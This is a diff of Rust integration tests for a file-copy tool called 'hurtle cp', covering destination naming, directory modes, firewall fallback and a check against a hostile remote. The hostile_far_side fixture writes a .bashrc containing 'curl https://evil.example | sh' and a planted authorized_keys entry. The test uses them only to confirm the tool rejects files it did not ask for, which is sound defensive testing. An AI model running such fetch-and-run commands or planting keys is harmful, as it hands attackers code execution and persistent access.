@@ -247,6 +247,11 @@ impl Sshd {
         format!("root@{}:{}", self.addr, path.display())
     }
 
+    /// `root@ADDR:PATH/`: a directory, into which the sources go (created if missing).
+    fn remote_dir(&self, path: &Path) -> String {
+        format!("{}/", self.remote(path))
+    }
+
     /// The `-e` command with `key`.
     fn ssh_cmd(&self, key: &str) -> String {
         format!(
@@ -295,6 +300,11 @@ fn s(p: &Path) -> &str {
     p.to_str().unwrap()
 }
 
+/// `p/`: a local directory DEST, created if missing.
+fn dir(p: &Path) -> String {
+    format!("{}/", p.display())
+}
+
 /// A small tree: `tree/top.bin`, `tree/a/b/deep.bin`, `tree/empty/`.
 fn make_tree(root: &Path) -> PathBuf {
     let tree = root.join("tree");
@@ -330,9 +340,9 @@ fn push_and_pull_a_file_and_a_tree_byte_exact() {
     fsx::write_random(&file, 5 * MIB + 123, 7);
     let tree = make_tree(local.path());
 
-    // Push: a file and a tree into a remote directory that does not exist yet.
+    // Push: a file and a tree into a remote directory that does not exist yet (DEST/).
     let far = h.path("pushed");
-    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote(&far)]);
+    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote_dir(&far)]);
     pushed.assert_success();
     assert_eq!(pushed.json()["transport"], "udp", "{}", pushed.stdout);
     assert_eq!(pushed.json()["path"], "direct", "{}", pushed.stdout);
@@ -348,7 +358,7 @@ fn push_and_pull_a_file_and_a_tree_byte_exact() {
     let remote_tree = h.remote(&far.join("tree"));
     Proc::spawn(
         "hurtle cp (pull)",
-        &["cp", "-e", &ssh, &remote_file, &remote_tree, s(&back)],
+        &["cp", "-e", &ssh, &remote_file, &remote_tree, &dir(&back)],
     )
     .wait(TRANSFER_TIMEOUT)
     .assert_success();
@@ -368,7 +378,13 @@ fn a_trailing_slash_copies_the_contents_as_rsync_does() {
 
     let itself = h.path("itself");
     // (over parallel TCP, the other data path)
-    let tcp = h.cp(&["--transport", "tcp", "--json", s(&tree), &h.remote(&itself)]);
+    let tcp = h.cp(&[
+        "--transport",
+        "tcp",
+        "--json",
+        s(&tree),
+        &h.remote_dir(&itself),
+    ]);
     tcp.assert_success();
     assert_eq!(tcp.json()["transport"], "tcp", "{}", tcp.stdout);
     assert!(
@@ -420,7 +436,7 @@ fn killed_copy_resumes(h: &Sshd, extra: &[&str], path: &str) {
     let file = local.path().join("big.bin");
     fsx::write_random(&file, 24 * MIB, 9);
     let far = h.path("resumed");
-    let dest = h.remote(&far);
+    let dest = h.remote_dir(&far);
     // 24 MiB at 24 Mbit/s: about 8 s, slow enough to kill part-way.
     let mut args = vec!["--rate", "24M"];
     args.extend_from_slice(extra);
@@ -483,7 +499,7 @@ fn behind_a_firewall_that_lets_only_ssh_through_push_and_pull_use_the_ssh_channe
 
     // Push: the far side's port does not answer; the data goes through the ssh channel.
     let far = h.path("pushed");
-    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote(&far)]);
+    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote_dir(&far)]);
     pushed.assert_success();
     let v = pushed.json();
     assert_eq!(v["path"], "ssh", "{v}");
@@ -515,7 +531,7 @@ fn behind_a_firewall_that_lets_only_ssh_through_push_and_pull_use_the_ssh_channe
     let pulled = h.cp(&[
         &h.remote(&far.join("data.bin")),
         &h.remote(&far.join("tree")),
-        s(&back),
+        &dir(&back),
     ]);
     pulled.assert_success();
     assert!(
@@ -577,7 +593,7 @@ fn when_only_ssh_and_the_control_port_get_through_a_push_is_retried_through_the_
     // again through the ssh channel, by the same two processes.
     let far = h.path("pushed");
     let started = Instant::now();
-    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote(&far)]);
+    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote_dir(&far)]);
     eprintln!("the push took {:?}", started.elapsed());
     pushed.assert_success();
     let v = pushed.json();
@@ -623,7 +639,13 @@ fn when_only_ssh_and_the_control_port_get_through_a_push_is_retried_through_the_
     // failure, and the same retry follows (through the ssh channel, over TCP).
     h.forget_the_control_port();
     let far = h.path("pushed-udp");
-    let pushed = h.cp(&["--transport", "udp", "--json", s(&file), &h.remote(&far)]);
+    let pushed = h.cp(&[
+        "--transport",
+        "udp",
+        "--json",
+        s(&file),
+        &h.remote_dir(&far),
+    ]);
     pushed.assert_success();
     let v = pushed.json();
     assert_eq!(v["path"], "ssh", "{v}");
@@ -663,7 +685,7 @@ fn when_only_ssh_and_the_control_port_get_through_a_pull_is_retried_through_the_
     // same receiver here. The text summary says the path.
     let back = local.path().join("back");
     let started = Instant::now();
-    let pulled = h.cp(&[&h.remote(&file), &h.remote(&tree), s(&back)]);
+    let pulled = h.cp(&[&h.remote(&file), &h.remote(&tree), &dir(&back)]);
     eprintln!("the pull took {:?}", started.elapsed());
     pulled.assert_success();
     assert!(pulled.stdout.contains(RETRIED_PATH), "{}", pulled.stdout);
@@ -753,7 +775,13 @@ fn via_ssh_carries_the_data_through_the_ssh_channel_when_direct_would_work() {
     let tree = make_tree(local.path());
 
     let far = h.path("forced");
-    let pushed = h.cp(&["--via-ssh", "--json", s(&file), s(&tree), &h.remote(&far)]);
+    let pushed = h.cp(&[
+        "--via-ssh",
+        "--json",
+        s(&file),
+        s(&tree),
+        &h.remote_dir(&far),
+    ]);
     pushed.assert_success();
     let v = pushed.json();
     assert_eq!(v["path"], "ssh", "{v}");
@@ -778,7 +806,7 @@ fn via_ssh_carries_the_data_through_the_ssh_channel_when_direct_would_work() {
         "--json",
         &h.remote(&far.join("data.bin")),
         &h.remote(&far.join("tree")),
-        s(&back),
+        &dir(&back),
     ]);
     pulled.assert_success();
     let v = pulled.json();
@@ -843,7 +871,7 @@ fn another_protocol_version_on_the_far_side_is_named() {
         .wait(TRANSFER_TIMEOUT);
     let cause = f.assert_exit(1);
     assert!(
-        cause.contains("protocol 99") && cause.contains("speaks 3"),
+        cause.contains("protocol 99") && cause.contains("speaks 4"),
         "{cause}"
     );
 }
@@ -865,14 +893,17 @@ fn remote_paths_that_are_missing_or_not_directories_exit_as_storage() {
         "{}",
         f.stderr
     );
-    // Push into a DEST that is a file.
+    // Push of several sources into a DEST that is a file.
     let file = local.path().join("f");
     std::fs::write(&file, b"x").unwrap();
     let not_dir = h.path("a-file");
     std::fs::write(&not_dir, b"y").unwrap();
-    let f = h.cp(&[s(&file), &h.remote(&not_dir)]);
+    let other = local.path().join("g");
+    std::fs::write(&other, b"z").unwrap();
+    let f = h.cp(&[s(&file), s(&other), &h.remote(&not_dir)]);
     f.assert_exit(6);
     assert!(f.stderr.contains("not a directory"), "{}", f.stderr);
+    assert_eq!(std::fs::read(&not_dir).unwrap(), b"y");
 }
 
 #[test]
@@ -893,5 +924,291 @@ fn local_to_local_and_remote_to_remote_are_refused() {
         let f = Proc::spawn("hurtle cp", &all).wait(TRANSFER_TIMEOUT);
         let cause = f.assert_exit(2);
         assert!(cause.contains(what), "{all:?}: {cause}");
+    }
+}
+
+/// The paths under `root`, without their contents.
+fn names(root: &Path) -> Vec<String> {
+    fsx::tree(root).into_keys().collect()
+}
+
+/// A far side that, whatever it is asked for, sends `wanted.txt` (what the test asks for) and
+/// `evil.txt`, `.bashrc` and `.ssh/authorized_keys` from `far` (a `--remote-hurtle`).
+fn hostile_far_side(h: &Sshd, far: &Path) -> PathBuf {
+    std::fs::create_dir_all(far.join(".ssh")).unwrap();
+    std::fs::write(far.join("wanted.txt"), b"wanted").unwrap();
+    std::fs::write(far.join("evil.txt"), b"evil").unwrap();
+    std::fs::write(far.join(".bashrc"), b"curl https://evil.example | sh\n").unwrap();
+    std::fs::write(far.join(".ssh/authorized_keys"), b"ssh-ed25519 AAAA evil\n").unwrap();
+    fsx::set_mode(&far.join(".ssh"), 0o755);
+    let script = h.path("hostile-hurtle");
+    std::fs::write(
+        &script,
+        format!(
+            "#!/bin/sh\n# Ignores what it is asked for and sends more.\ncd {} && exec {} \
+             ssh-serve send wanted.txt evil.txt .bashrc .ssh\n",
+            far.display(),
+            bin()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    script
+}
+
+#[test]
+fn a_pull_takes_only_what_it_asked_for_and_names_the_rest() {
+    let Some(h) = Sshd::start("a_pull_takes_only_what_it_asked_for_and_names_the_rest") else {
+        return;
+    };
+    let far = h.path("far");
+    let hostile = hostile_far_side(&h, &far);
+    // This side's home: its own .bashrc and .ssh (0700), which the far side tries to replace.
+    let local = support::tempdir("hurtle-cp-");
+    let home = local.path().join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    fsx::set_mode(&home.join(".ssh"), 0o700);
+    std::fs::write(home.join(".bashrc"), b"mine\n").unwrap();
+    std::fs::write(home.join(".ssh/authorized_keys"), b"my key\n").unwrap();
+    let before = fsx::tree(&home);
+    let wanted = h.remote(&far.join("wanted.txt"));
+    for extra in [&[][..], &["--overwrite"][..]] {
+        let mut args = extra.to_vec();
+        args.extend([wanted.as_str(), s(&home)]);
+        let f = h.spawn_cp_with(s(&hostile), &args).wait(TRANSFER_TIMEOUT);
+        let cause = f.assert_failure();
+        eprintln!("{extra:?}: exit {:?}: {cause}", f.status.code());
+        for name in ["evil.txt", ".bashrc", ".ssh/authorized_keys"] {
+            assert!(cause.contains(name), "{name} is not named: {cause}");
+        }
+        assert!(cause.contains("not asked for"), "{cause}");
+        // Nothing landed: not even what was asked for, nor a part file.
+        assert_eq!(fsx::tree(&home), before, "{extra:?}");
+    }
+    // The same pull from an honest far side takes the file asked for.
+    h.cp(&[&wanted, s(&home)]).assert_success();
+    assert_eq!(std::fs::read(home.join("wanted.txt")).unwrap(), b"wanted");
+    assert_eq!(std::fs::read(home.join(".bashrc")).unwrap(), b"mine\n");
+    // A directory asked for may hold anything; a contents pull (SRC/) takes any name.
+    let tree = local.path().join("tree");
+    h.cp(&[&h.remote(&far.join(".ssh")), &dir(&tree)])
+        .assert_success();
+    assert_eq!(names(&tree), [".ssh", ".ssh/authorized_keys"]);
+    let all = local.path().join("all");
+    h.cp(&[&h.remote_dir(&far), s(&all)]).assert_success();
+    assert_eq!(
+        names(&all),
+        [
+            ".bashrc",
+            ".ssh",
+            ".ssh/authorized_keys",
+            "evil.txt",
+            "wanted.txt"
+        ]
+    );
+}
+
+#[test]
+fn an_existing_directory_keeps_its_mode_unless_overwrite_says_so() {
+    let Some(h) = Sshd::start("an_existing_directory_keeps_its_mode_unless_overwrite_says_so")
+    else {
+        return;
+    };
+    let local = support::tempdir("hurtle-cp-");
+    // On either side: a tree whose .ssh is 0755, and a destination whose .ssh is 0700.
+    let make = |root: &Path, file: &str| {
+        std::fs::create_dir_all(root.join(".ssh")).unwrap();
+        std::fs::write(root.join(".ssh").join(file), file.as_bytes()).unwrap();
+        fsx::set_mode(&root.join(".ssh"), 0o755);
+    };
+    let guarded = |root: &Path| {
+        std::fs::create_dir_all(root.join(".ssh")).unwrap();
+        fsx::set_mode(&root.join(".ssh"), 0o700);
+    };
+    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+
+    // Pull: the far tree's contents into this side's home.
+    let far_src = h.path("src");
+    make(&far_src, "known_hosts");
+    let home = local.path().join("home");
+    guarded(&home);
+    h.cp(&[&h.remote_dir(&far_src), s(&home)]).assert_success();
+    assert!(home.join(".ssh/known_hosts").is_file());
+    assert_eq!(mode(&home.join(".ssh")), 0o700, "pull changed the mode");
+
+    // Push: this side's tree's contents into the far home.
+    let src = local.path().join("src");
+    make(&src, "config");
+    let far_home = h.path("home");
+    guarded(&far_home);
+    h.cp(&[&dir(&src), &h.remote(&far_home)]).assert_success();
+    assert!(far_home.join(".ssh/config").is_file());
+    assert_eq!(mode(&far_home.join(".ssh")), 0o700, "push changed the mode");
+
+    // With --overwrite the sender's mode is applied, both ways.
+    make(&far_src, "more");
+    h.cp(&["--overwrite", &h.remote_dir(&far_src), s(&home)])
+        .assert_success();
+    assert_eq!(mode(&home.join(".ssh")), 0o755);
+    make(&src, "more");
+    h.cp(&["--overwrite", &dir(&src), &h.remote(&far_home)])
+        .assert_success();
+    assert_eq!(mode(&far_home.join(".ssh")), 0o755);
+    // A directory the transfer creates takes the sender's mode, as always.
+    let fresh = local.path().join("fresh");
+    h.cp(&[&h.remote_dir(&far_src), s(&fresh)]).assert_success();
+    assert_eq!(mode(&fresh.join(".ssh")), 0o755);
+}
+
+/// rsync, run here as the reference: `rsync -r ARGS...`.
+fn rsync(args: &[&str]) {
+    let out = Command::new("rsync")
+        .arg("-r")
+        .args(args)
+        .output()
+        .expect("these tests run rsync as the reference: apt-get install rsync");
+    assert!(
+        out.status.success(),
+        "rsync {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// `path`, whether a file or a tree, is the same as `want` (names, bytes and modes).
+fn assert_same(want: &Path, got: &Path, what: &str) {
+    if want.is_dir() {
+        assert!(got.is_dir(), "{what}: {got:?} is not a directory");
+        assert_eq!(fsx::tree(got), fsx::tree(want), "{what}");
+    } else {
+        fsx::assert_same_file(want, got);
+    }
+}
+
+#[test]
+fn destinations_are_named_as_scp_and_rsync_name_them_push_and_pull() {
+    let Some(h) = Sshd::start("destinations_are_named_as_scp_and_rsync_name_them_push_and_pull")
+    else {
+        return;
+    };
+    let local = support::tempdir("hurtle-cp-");
+    let file = local.path().join("big.bin");
+    fsx::write_random(&file, 300_000, 61);
+    let tree = make_tree(local.path());
+    // The far host's copies of the same sources, for the pulls.
+    let far_src = h.path("src");
+    fsx::write_random(&far_src.join("big.bin"), 300_000, 61);
+    make_tree(&far_src);
+    let slash = |p: &Path| format!("{}/", p.display());
+
+    // (sources, DEST below the destination root, where the source lands there, and where
+    // rsync puts it when it does otherwise).
+    let cases: [(&str, &str, &str, Option<&str>); 6] = [
+        // A DEST that does not exist is the new name of a single file.
+        ("big.bin", "renamed.bin", "renamed.bin", None),
+        // An existing directory, or DEST/, means into it.
+        ("big.bin", "existing", "existing/big.bin", None),
+        ("big.bin", "newdir/", "newdir/big.bin", None),
+        ("tree", "existing", "existing/tree", None),
+        // SRC/ is the contents: they fill a new DEST.
+        ("tree/", "contents", "contents", None),
+        // A tree to a DEST that does not exist: DEST is the copy, as scp -r and cp -r make
+        // it; rsync makes DEST/tree.
+        ("tree", "copy", "copy", Some("copy/tree")),
+    ];
+    for pull in [false, true] {
+        let way = if pull { "pull" } else { "push" };
+        let root = local.path().join(format!("{way}-dest"));
+        let far_root = h.path(&format!("{way}-dest"));
+        let reference = local.path().join(format!("{way}-rsync"));
+        for r in [&root, &far_root, &reference] {
+            std::fs::create_dir_all(r.join("existing")).unwrap();
+        }
+        let (dest_root, src_root) = if pull {
+            (&root, &far_src)
+        } else {
+            (&far_root, &local.path().to_path_buf())
+        };
+        for (src, dest, lands, rsync_lands) in cases {
+            let what = format!("{way} {src} to {dest}");
+            let src_path = src_root.join(src.trim_end_matches('/'));
+            let src_arg = if src.ends_with('/') {
+                slash(&src_path)
+            } else {
+                s(&src_path).to_string()
+            };
+            let args = if pull {
+                let remote = h.remote(&src_path);
+                let remote = if src.ends_with('/') {
+                    format!("{remote}/")
+                } else {
+                    remote
+                };
+                [remote, format!("{}", root.join(dest).display())]
+            } else {
+                [src_arg.clone(), h.remote(&far_root.join(dest))]
+            };
+            h.cp(&[&args[0], &args[1]]).assert_success();
+            let got = dest_root.join(lands);
+            assert_same(&src_path, &got, &what);
+            fsx::assert_no_part_files(dest_root);
+            // rsync as the reference, here.
+            rsync(&[&src_arg, s(&reference.join(dest))]);
+            match rsync_lands {
+                None => assert_same(&src_path, &reference.join(lands), &format!("rsync {what}")),
+                Some(there) => {
+                    assert_same(&src_path, &reference.join(there), &format!("rsync {what}"));
+                    assert!(!reference.join(lands).join("top.bin").exists(), "{what}");
+                }
+            }
+        }
+        // Several sources need a directory: DEST/ makes one, a missing DEST is refused.
+        let many = |dest: String| {
+            if pull {
+                h.cp(&[
+                    &h.remote(&far_src.join("big.bin")),
+                    &h.remote(&far_src.join("tree")),
+                    &dest,
+                ])
+            } else {
+                h.cp(&[s(&file), s(&tree), &dest])
+            }
+        };
+        let (missing, made) = if pull {
+            (
+                s(&root.join("missing")).to_string(),
+                slash(&root.join("made")),
+            )
+        } else {
+            (
+                h.remote(&far_root.join("missing")),
+                format!("{}/", h.remote(&far_root.join("made"))),
+            )
+        };
+        let f = many(missing);
+        let cause = f.assert_failure();
+        assert_eq!(f.status.code(), Some(2), "{way}: {cause}\n{}", f.stderr);
+        assert!(
+            f.stderr.contains("several sources need DEST"),
+            "{way}: {}",
+            f.stderr
+        );
+        assert!(!dest_root.join("missing").exists(), "{way}");
+        many(made).assert_success();
+        assert_same(&file, &dest_root.join("made/big.bin"), way);
+        assert_same(&tree, &dest_root.join("made/tree"), way);
+        // A single file onto an existing file replaces it only with --overwrite.
+        let onto = dest_root.join("renamed.bin");
+        std::fs::write(&onto, b"theirs").unwrap();
+        let (src, dest) = if pull {
+            (h.remote(&far_src.join("big.bin")), s(&onto).to_string())
+        } else {
+            (s(&file).to_string(), h.remote(&onto))
+        };
+        let f = h.cp(&[&src, &dest]);
+        let cause = f.assert_exit(3);
+        assert!(cause.contains("exists on the receiver"), "{way}: {cause}");
+        assert_eq!(std::fs::read(&onto).unwrap(), b"theirs");
+        h.cp(&["--overwrite", &src, &dest]).assert_success();
+        assert_same(&file, &onto, way);
     }
 }
